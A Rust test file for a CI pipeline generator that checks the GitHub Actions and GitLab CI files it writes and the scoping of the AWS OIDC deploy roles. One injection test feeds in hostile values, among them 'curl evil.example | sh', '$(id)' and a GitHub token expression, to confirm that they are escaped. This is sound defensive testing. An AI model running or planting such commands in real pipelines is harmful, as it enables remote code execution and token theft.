//! What is written for CI systems other than CodePipeline.

use serde_json::{Value as Json, json};

use super::codepipeline::tests::{HTTP, service, stage, synthesis};
use super::*;
use crate::{Approval, CiSystem, Environment, Push};

const PROGRAM: Program<'_> = Program {
    package: "orders",
    binary: "orders",
    rust_version: "1.95",
    features: "",
    folder: "",
    aws_feature: "sparta-lambda/aws",
};

fn github() -> Pipeline {
    Pipeline::github("https://github.com/acme/orders").system(CiSystem::GitHubActions)
}

fn gitlab() -> Pipeline {
    Pipeline::gitlab("https://gitlab.com/acme/web/orders").system(CiSystem::GitLabCi)
}

fn environments() -> [Environment; 2] {
    let test = stage("test").approve_promotion(Approval::manual().message("On to production?"));
    [test, stage("production").stack_prefix("Prod")]
}

fn file(pipeline: &Pipeline, program: Program<'_>) -> CiFile {
    synthesis(&environments(), service(HTTP)).ci_file(pipeline, program).unwrap().unwrap()
}

fn roles(pipeline: &Pipeline) -> Json {
    let template = synthesis(&environments(), service(HTTP)).pipeline(pipeline, Source::Connection).unwrap();
    assert_eq!(template.dangling_references(), Vec::<String>::new());
    serde_json::from_str(&template.to_json()).unwrap()
}

fn trust(roles: &Json, role: &str) -> Json {
    roles["Resources"][role]["Properties"]["AssumeRolePolicyDocument"]["Statement"][0].clone()
}

#[test]
fn a_workflow_builds_once_and_deploys_each_environment() {
    let file = file(&github(), PROGRAM);
    assert_eq!(file.path, ".github/workflows/HelloPipeline.yml");
    insta::assert_snapshot!(file.text);
}

#[test]
fn a_gitlab_ci_file_builds_once_and_deploys_each_environment() {
    let file = file(&gitlab(), PROGRAM);
    assert_eq!(file.path, ".gitlab-ci.yml");
    insta::assert_snapshot!(file.text);
}

#[test]
fn each_environment_has_a_bucket_and_roles_of_its_own() {
    let synthesis = synthesis(&environments(), service(HTTP));
    let stack = synthesis.pipeline(&github(), Source::Connection).unwrap();
    synthesis.check_pipeline(&stack).unwrap();
    insta::assert_snapshot!(stack.to_json());
}

#[test]
fn only_the_job_of_the_environment_takes_on_its_role() {
    let host = "token.actions.githubusercontent.com";
    let provider = "arn:${AWS::Partition}:iam::${AWS::AccountId}:oidc-provider/token.actions.githubusercontent.com";
    for (role, environment) in [("TestDeployRole", "test"), ("ProductionDeployRole", "production")] {
        let expected = json!({
            "Effect": "Allow",
            "Principal": {"Federated": {"Fn::Sub": provider}},
            "Action": "sts:AssumeRoleWithWebIdentity",
            "Condition": {"StringEquals": {
                format!("{host}:aud"): "sts.amazonaws.com",
                format!("{host}:sub"): format!("repo:acme/orders:environment:{environment}"),
            }},
        });
        assert_eq!(trust(&roles(&github()), role), expected);
    }
    let of_gitlab = trust(&roles(&gitlab()), "ProductionDeployRole");
    let subject = "project_path:acme/web/orders:ref_type:branch:ref:main";
    let claims = json!({"gitlab.com:aud": "sts.amazonaws.com", "gitlab.com:sub": subject});
    assert_eq!(of_gitlab["Condition"], json!({ "StringEquals": claims }));
}

#[test]
fn a_gitlab_of_ones_own_signs_for_itself_and_names_each_branch() {
    let pipeline = Pipeline::at(crate::RepositoryHost::GitLabSelfManaged, "https://git.acme.example/web/orders");
    let pipeline = pipeline.system(CiSystem::GitLabCi).on(Push::branches(["main", "hot"])).oidc_provider(true);
    let roles = roles(&pipeline);
    let subjects = ["main", "hot"].map(|branch| format!("project_path:web/orders:ref_type:branch:ref:{branch}"));
    let trust = trust(&roles, "TestDeployRole");
    assert_eq!(trust["Condition"]["StringEquals"]["git.acme.example:sub"], json!(subjects));
    assert_eq!(trust["Principal"], json!({"Federated": {"Ref": "Provider"}}));
    let provider = &roles["Resources"]["Provider"];
    assert_eq!(provider["Properties"]["Url"], "https://git.acme.example");
    assert_eq!(provider["DeletionPolicy"], "RetainExceptOnCreate");
}

#[test]
fn a_job_may_deploy_its_own_stack_in_the_role_of_its_environment_alone() {
    let roles = roles(&github());
    let text = serde_json::to_string(&roles["Resources"]["TestDeployRole"]).unwrap();
    assert!(text.contains("stack/Test-HelloPipeline-main/*") && text.contains("TestCloudFormationRole"), "{text}");
    assert!(!text.contains("Prod") && !text.contains(r#"Resource":"*""#), "{text}");
    let synthesis = synthesis(&environments(), service(HTTP));
    let targets = synthesis.targets(&github()).unwrap();
    for target in &targets {
        for output in [&target.bucket, &target.role, target.boundary.as_ref().unwrap()] {
            assert!(roles["Outputs"][output].is_object(), "{output}");
        }
    }
    let stacks: Vec<&str> = targets.iter().map(|target| target.stack.as_str()).collect();
    assert_eq!(stacks, ["Test-HelloPipeline-main", "Prod-HelloPipeline-main"]);
}

/// Only what begins with these words and a `:` is at a line's beginning, whatever a name holds.
fn keys(text: &str) -> Vec<&str> {
    let keys = text.lines().filter(|line| line.starts_with(|c: char| c.is_ascii_alphabetic()));
    keys.filter_map(|line| Some(line.split_once(':')?.0)).collect()
}

#[test]
fn no_name_is_more_than_text_in_the_files() {
    let evil = "x\nenv: {A: b}\n'; curl evil.example | sh; ${{ github.token }} $(id)";
    let program = Program { package: evil, binary: evil, folder: evil, features: evil, ..PROGRAM };
    let branch = r#"a"'$(id)${{x}}#b"#;
    let workflow = file(&github().branch(branch), program).text;
    assert_eq!(keys(&workflow), ["name", "on", "permissions", "concurrency", "jobs"]);
    assert!(workflow.contains(r#"      - "a\"'$(id)${{x}}#b""#), "{workflow}");
    let scripts: Vec<&str> = workflow.lines().filter(|line| line.starts_with("          ")).collect();
    let of_actions = ["AWS_ACCOUNT_ID", "AWS_REGION"];
    let expressions = scripts.iter().filter(|line| line.contains("${{"));
    let own = |line: &&&str| of_actions.iter().any(|variable| line.contains(&format!("${{{{ vars.{variable} }}}}")));
    assert_eq!(expressions.clone().filter(own).count(), expressions.count());
    let of_gitlab = file(&gitlab(), program).text;
    let jobs = ["workflow", "stages", "build", "deploy-test", "deploy-production"];
    assert_eq!(keys(&of_gitlab), jobs);
}

#[test]
fn a_branch_that_gitlab_would_read_as_a_part_of_a_condition_is_a_mistake() {
    let synthesis = synthesis(&environments(), service(HTTP));
    let found = synthesis.ci_file(&gitlab().branch(r#"a"||"b"#), PROGRAM).unwrap_err();
    assert!(found.to_string().contains("is not a branch that GitLab CI can name"), "{found}");
}

#[test]
fn a_workflow_starts_at_the_pushes_that_are_declared() {
    let pushes = Push::branches(["main", "c++/**"]).except(["main-*"]).paths(["src/**"]).except_paths(["**/*.md"]);
    let text = file(&github().on(pushes).on(Push::tag("v*")), PROGRAM).text;
    let expected = r#"on:
  push:
    branches:
      - "main"
      - "c\\+\\+/**"
      - "!main-*"
    tags:
      - "v*"
    paths:
      - "src/**"
      - "!**/*.md"
"#;
    assert!(text.contains(expected), "{text}");
}

#[test]
fn environments_of_a_wave_are_deployed_side_by_side() {
    let beside = |name: &str| stage(name).wave("eu").approve_promotion(Approval::manual());
    let synthesis = synthesis(&[stage("test"), beside("paris"), beside("berlin"), stage("us")], service(HTTP));
    let text = |pipeline| synthesis.ci_file(&pipeline, PROGRAM).unwrap().unwrap().text;
    let workflow = text(github());
    let needs: Vec<&str> = workflow.lines().filter_map(|line| line.strip_prefix("    needs: ")).collect();
    assert_eq!(needs, ["[build]", "[deploy-test]", "[deploy-test]", "[deploy-paris, deploy-berlin]"]);
    assert_eq!(workflow.matches("# Somebody has to approve").count(), 1);
    assert!(text(gitlab()).contains("    - build\n    - deploy-paris\n    - deploy-berlin\n  # Somebody"));
}

#[test]
fn who_is_asked_is_not_declared_for_a_ci_system() {
    let gate = Approval::manual().link("https://example.com/notes");
    let synthesis = synthesis(&[stage("test").approve_changes(gate)], service(HTTP));
    let found = synthesis.ci_file(&github(), PROGRAM).unwrap_err();
    assert!(found.to_string().contains("is set up in GitHub Actions"), "{found}");
}
